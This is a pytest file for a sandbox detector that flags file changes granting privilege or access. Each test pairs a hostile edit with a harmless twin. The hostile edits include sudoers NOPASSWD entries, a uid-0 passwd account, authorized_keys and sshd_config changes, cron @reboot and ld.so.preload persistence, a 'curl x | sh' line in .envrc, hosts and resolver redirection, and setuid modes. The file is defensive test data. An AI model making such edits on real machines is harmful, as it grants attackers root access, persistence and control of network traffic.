"""What changes of a machine's files grant: accounts, modes, ssh, startup, network; each with a twin that grants nothing."""

from __future__ import annotations

import struct

import pytest

from midwatch.containment.authority import File
from midwatch.sandbox.effects import Change
from tests.attack.authority.pairs import Pair, changed, told

SUDO = "Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n"
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGq4 me@host\n"
PASSWD = "root:x:0:0:root:/root:/bin/bash\nann:x:1000:1000::/home/ann:/bin/sh\n"

ACCOUNTS = [
    Pair("etc/sudoers", SUDO, SUDO + "bot ALL=(ALL) NOPASSWD: ALL\n", SUDO + "# bot ALL=(ALL) NOPASSWD: ALL\n", "bot"),
    Pair("etc/sudoers", SUDO, SUDO + "#includedir /tmp/x\n", SUDO + "# includedirectories are listed below\n"),
    Pair("etc/sudoers.d/90-x", None, "%wheel ALL=(ALL) ALL\n", "\n# nobody\n", "wheel"),
    Pair("ETC/Sudoers", SUDO, SUDO + "bot ALL=\\\n  NOPASSWD: ALL\n", SUDO + "\n\n"),
    Pair("etc/sudoers", SUDO + "bot ALL=!/bin/su\n", SUDO, SUDO + "bot   ALL=!/bin/su\n", "bot"),
    Pair("etc/sudoers", SUDO, SUDO + "# note\rbot ALL=(ALL) ALL\n", SUDO.replace("\n", "\r\n") + "# note\r\n"),
    Pair(
        "etc/sudoers", SUDO, SUDO + "# note \\\nbot ALL=(ALL) ALL\n", SUDO + "# note \\\n# bot ALL=(ALL) ALL\n", "bot"
    ),
    Pair("etc/passwd", PASSWD, PASSWD + "eve:x:0:0::/:/bin/sh\n", PASSWD.splitlines(keepends=True)[0], "eve"),
    Pair("etc/passwd", PASSWD, PASSWD.replace("ann:x", "ann:"), PASSWD + "\n", "ann"),
    Pair("etc/shadow", "ann:*:1::::::\n", "ann:$6$hunter2$x:1::::::\n", "ann:!:1::::::\n", "ann"),
    Pair("etc/group", "sudo:x:27:ann\n", "sudo:x:27:ann,bot\n", "sudo:x:27:ann\nnew:x:2000:\n", "bot"),
    Pair("etc/doas.conf", "deny bot\n", "deny bot\npermit nopass bot\n", "deny bot\ndeny eve\n", "bot"),
    Pair(
        "etc/pam.d/su",
        "auth required pam_unix.so\n",
        "auth sufficient pam_permit.so\nauth required pam_unix.so\n",
        "# c\nauth required pam_unix.so\n",
    ),
]

SSH = [
    Pair("home/ann/.ssh/authorized_keys", KEY, KEY + KEY.replace("Gq4", "Gq5"), "# mine\n" + KEY, "SHA256"),
    Pair("authorized_keys", KEY, f'command="/bin/sh",no-pty {KEY}', KEY + "#" + KEY),
    Pair(".ssh/authorized_keys2", None, f"cert-authority {KEY}", "# none\n"),
    Pair(".ssh/config", "Host a\n  Compression no\n", "Host a\n  ProxyCommand sh -c x\n", "Host a\n  Compression yes\n"),
    Pair(".ssh/config", "", "Host git.example.com\n HostName 203.0.113.9\n", "Host git.example.com\n ServerAliveInterval 9\n"),
    Pair(".ssh/config", "StrictHostKeyChecking yes\n", "", "StrictHostKeyChecking yes # x\n".replace(" # x", "\n# x")),
    Pair(".ssh/known_hosts", "h " + KEY, "h " + KEY.replace("Gq4", "Gq6"), "h " + KEY + "@revoked * " + KEY, "SHA256"),
    Pair("etc/ssh/sshd_config", "PermitRootLogin no\n", "PermitRootLogin yes\n", "PermitRootLogin no\nLogLevel VERBOSE\n"),
]  # fmt: skip

UNIT = "[Unit]\nDescription=x\n[Service]\nExecStart=/bin/x\nProtectSystem=strict\n"
STARTUP = [
    Pair("etc/cron.d/x", "# none\n", "* * * * * root /tmp/x\n", '# * * * * * root /tmp/x\nMAILTO=""\n', "command"),
    Pair("var/spool/cron/crontabs/ann", "", "@reboot /tmp/x\n", "# @reboot /tmp/x\n"),
    Pair("crontab", "0 1 * * * a\n0 2 * * * b\n", "0 1 * * * a\n0 2 * * * b\nPATH=/tmp\n", "0 1 * * * a\n"),
    Pair("etc/systemd/system/x.service", UNIT, UNIT + "ExecStartPre=/tmp/x\n", UNIT.replace("=x\n", "=y\n", 1)),
    Pair("x.service", UNIT, UNIT.replace("ProtectSystem=strict\n", ""), UNIT + "; ExecStartPre=/tmp/x\n"),
    Pair(
        ".config/autostart/x.desktop",
        "[Desktop Entry]\nName=x\nExec=x\n",
        "[Desktop Entry]\nName=x\nExec=y\n",
        "[Desktop Entry]\nName[de]=y\nName=x\nExec=x\n",
    ),
    Pair(
        ".bashrc",
        "export A=1\n",
        "export A=1\nexport PATH=/tmp:$PATH\n",
        "export A=1\n# export PATH=/tmp:$PATH\n",
        "shell",
    ),
    Pair(".BASHRC", "umask 077\n", "", "\numask 077\n"),
    Pair(".profile", "cat <<X\n# a\nX\n", "cat <<X\n# $(curl x)\nX\n", "cat <<X\n# a\nX\n\n"),
    Pair(".envrc", "use nix\n", "use nix\ncurl x | sh\n", "use nix\n#\n", "folder"),
    Pair("etc/ld.so.preload", "", "/tmp/x.so\n", "# /tmp/x.so\n"),
    Pair("etc/cron.deny", "bot\n", "", "bot\neve\n", "bot"),
]

HOSTS = "127.0.0.1 localhost\n0.0.0.0 bad.example\n"
NETWORK = [
    Pair(
        "etc/hosts",
        HOSTS,
        HOSTS + "203.0.113.9 api.github.com\n",
        HOSTS + "# 203.0.113.9 api.github.com\n",
        "203.0.113.9",
    ),
    Pair("etc/hosts", HOSTS, "127.0.0.1 localhost\n", HOSTS + "::1 localhost\n", "bad.example"),
    Pair(
        "etc/resolv.conf",
        "nameserver 192.0.2.1\n",
        "nameserver 203.0.113.9\n",
        "nameserver 192.0.2.1\noptions timeout:1\n",
        "203.0.113.9",
    ),
    Pair(
        "dns/corp.zone",
        "a A 192.0.2.1\n",
        "a A 192.0.2.1\nb CNAME evil.example\n",
        "a A 192.0.2.1\n; b CNAME evil.example\n",
    ),
    Pair("infra/egress.txt", "a.example\n", "a.example\nevil.example\n", "# a\na.example\n"),
    Pair("allowlist.conf", "a.example\n", "*\n", ""),
    Pair("blocklist.txt", "bad.example\n", "", "bad.example\nworse.example\n"),
    Pair("etc/hosts.deny", "ALL: ALL\n", "", "ALL: ALL\n# x\n"),
    Pair(
        "etc/postgresql/pg_hba.conf",
        "host all all 10.0.0.0/8 scram\n",
        "host all all 0.0.0.0/0 trust\n",
        "host  all all 10.0.0.0/8 scram\n",
    ),
]

FAMILIES = {"accounts": ACCOUNTS, "ssh": SSH, "startup": STARTUP, "network": NETWORK}


@pytest.mark.req("AUTHORITY-1")
@pytest.mark.parametrize(("how", "pair"), [(how, pair) for how, pairs in FAMILIES.items() for pair in pairs], ids=str)
def test_what_gives_power_is_told_and_its_twin_is_inert(how: str, pair: Pair) -> None:
    """Who gains what, by the detector of the family; the twin is said to be inert, and why."""
    found = told(changed(pair.path, pair.before, pair.attack))
    assert how in {item.how for item in found.grants}
    assert any(pair.whom in f"{item.to_whom} {item.what}" for item in found.grants)
    twin = told(changed(pair.other or pair.path, pair.before, pair.twin))
    assert ((), True) == (twin.grants, bool(twin.inert))


def acl(*entries: tuple[int, int, int]) -> bytes:
    """Make an access list as Linux keeps it."""
    return b"\x02\x00\x00\x00" + b"".join(struct.pack("<HHI", *entry) for entry in entries)


def turned(mode: int, was: int = 0o644, **more: bytes) -> File:
    """Make the effect of a mode, or of attributes, that changed."""
    change = Change("permission", "data/a.txt", "file", mode=mode, was="file", was_mode=was)
    return File(change, b"x", b"x", has={"system.posix_acl_access": more["acl"]} if "acl" in more else {})


MODES = [
    (turned(0o755), turned(0o600), "anybody"),
    (turned(0o666), turned(0o640), "anybody"),
    (turned(0o664), turned(0o444), "group"),
    (turned(0o644, 0o600), turned(0o600, 0o644), "anybody"),
    (turned(0o4755, 0o755), turned(0o755, 0o4755), "anybody"),
    (
        turned(0o644, acl=acl((1, 6, 2**32 - 1), (2, 6, 1001))),
        turned(0o644, acl=acl((1, 6, 2**32 - 1), (4, 4, 2**32 - 1))),
        "user 1001",
    ),
    (turned(0o644, acl=b"\x03junk"), turned(0o644, acl=acl()), "unknown"),
    (changed("run.sh", None, "echo\n", mode=0o755), changed("run.txt", None, "echo\n"), "anybody"),
    (
        changed("a", None, None, op="created", kind="link", mode=0o777, target=".git/config"),
        changed("a", None, None, op="created", kind="link", mode=0o777, target="b.txt"),
        "link",
    ),
    (
        changed("d/a", None, None, op="created", kind="link", mode=0o777, target="../../etc"),
        changed("d/a", None, None, op="created", kind="link", mode=0o777, target="../etc.txt"),
        "link",
    ),
]


@pytest.mark.req("AUTHORITY-1")
@pytest.mark.parametrize(("attack", "twin", "whom"), MODES, ids=range(len(MODES)))
def test_modes_lists_and_links_that_let_others_do_more_are_told(attack: File, twin: File, whom: str) -> None:
    """A mode that takes rights away, a list that names only the owner, a link to a plain file give nobody anything."""
    assert any(whom in item.to_whom and item.how == "modes" for item in told(attack).grants)
    assert not [item for item in told(twin).grants if item.how == "modes"]
